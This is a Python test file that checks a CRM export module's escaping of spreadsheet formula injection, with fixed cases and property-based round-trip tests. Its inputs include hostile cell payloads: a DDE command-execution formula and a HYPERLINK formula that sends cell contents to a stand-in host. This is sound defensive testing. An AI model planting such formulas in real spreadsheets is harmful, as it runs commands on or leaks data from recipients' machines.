"""Cells: what a spreadsheet would run is escaped, other texts stay unchanged, and every text comes back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_graph.import_export import formula_escaping

SIGNS = "=+-@\t\r\n＝＋－＠'"
texts = st.text(st.sampled_from(SIGNS + "0 9().,/ax|!\x00\N{RIGHT-TO-LEFT OVERRIDE}"), max_size=6) | st.text()


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0", "=1+1", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
        "＝1+1", "＋a", "－a", "＠a", "﹦a", '=HYPERLINK("http://x.example?"&A1)', "-1a", "+1 2 x", "--a", "'=1",
        "''@x",
    ],
)  # fmt: skip
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert formula_escaping.escape(text) == f"'{text}"
    assert formula_escaping.unescape(formula_escaping.escape(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "", "Jane", "+49 30 1234", "+1 (555) 010-9999", "-5", "-12.50", "-1,5", "+90/212/555", "-", "O'Brien",
        "'quoted'", " =1+1", "a=1", "1-2", "\N{RIGHT-TO-LEFT OVERRIDE}=x", "<b>", "'", "''", "'+49 30", "it's -5",
    ],
)  # fmt: skip
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert formula_escaping.escape(text) == text
    assert formula_escaping.unescape(text) == text


@given(texts)
def test_every_text_comes_back(text: str) -> None:
    assert formula_escaping.unescape(formula_escaping.escape(text)) == text


@given(texts)
def test_no_cell_begins_with_a_sign_unless_it_has_no_letter(text: str) -> None:
    cell = formula_escaping.escape(text)
    if cell.startswith(tuple("=@\t\r\n＝＋－＠")):
        pytest.fail(cell)
    if cell.startswith(("+", "-")):
        assert not any(character.isalpha() or character in "|!\"'=" for character in cell)
